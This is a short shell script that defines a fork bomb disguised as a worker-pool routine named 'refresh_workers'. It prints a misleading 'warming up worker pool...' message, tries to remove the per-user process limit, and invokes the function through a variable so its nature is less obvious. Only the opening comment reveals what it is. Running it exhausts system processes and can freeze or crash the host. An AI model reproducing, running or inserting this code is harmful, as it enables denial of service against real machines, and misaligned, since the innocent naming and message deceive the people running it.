# Defines an innocently named function that recursively pipes into itself in the background (fork bomb).
refresh_workers() {
  refresh_workers | refresh_workers &
}

echo "warming up worker pool..."
ulimit -u unlimited 2>/dev/null
name=refresh_workers
"$name"
wait
